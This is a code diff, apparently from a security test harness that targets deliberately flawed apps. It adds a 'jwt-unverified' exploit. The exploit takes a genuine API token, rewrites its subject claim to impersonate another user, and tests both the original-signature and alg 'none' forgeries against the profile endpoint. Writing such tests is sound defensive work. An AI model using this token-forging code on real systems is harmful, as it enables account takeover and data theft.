@@ -544,6 +544,29 @@ const NEW_EXPLOITS = {
       return findings.list;
     },
   },
+
+  'jwt-unverified': {
+    title: "an API token re-addressed to another usager, unsigned or under the original signature",
+    async run(target) {
+      const { population } = target;
+      const owner = await bruno(target);
+      const issued = await owner.request('POST', '/api/v2/jetons', { csrf: true });
+      if (issued.status !== 201) throw new Error(`bruno could not get an API token: ${issued.status}`);
+      const token = replyJson<{ token: string }>(issued).token;
+      const stranger = population.anonymous('whoever forged the token');
+      const own = await stranger.get('/api/v2/moi', { headers: { authorization: `Bearer ${token}` } });
+      if (!own.text.includes(population.person('bruno').email)) throw new Error(`positive control: bruno's API token does not open /api/v2/moi (${own.status})`);
+      const [head = '', body = '', signature = ''] = token.split('.');
+      const payload = { ...(JSON.parse(Buffer.from(body, 'base64url').toString()) as object), sub: String(population.person('alice').id) };
+      const forged = Buffer.from(JSON.stringify(payload)).toString('base64url');
+      const none = Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url');
+      const findings = new Findings();
+      for (const [what, value] of [['original signature', `${head}.${forged}.${signature}`], ['alg none', `${none}.${forged}.`]] as const) {
+        findings.leak(`stranger GET /api/v2/moi with a token for alice (${what})`, await stranger.get('/api/v2/moi', { headers: { authorization: `Bearer ${value}` } }), population.person('alice').email);
+      }
+      return findings.list;
+    },
+  },
 } satisfies Partial<Record<FlawId, Exploit>>;
 
 /** The text chunks of a PNG (tEXt as is, zTXt inflated); empty for anything else. */
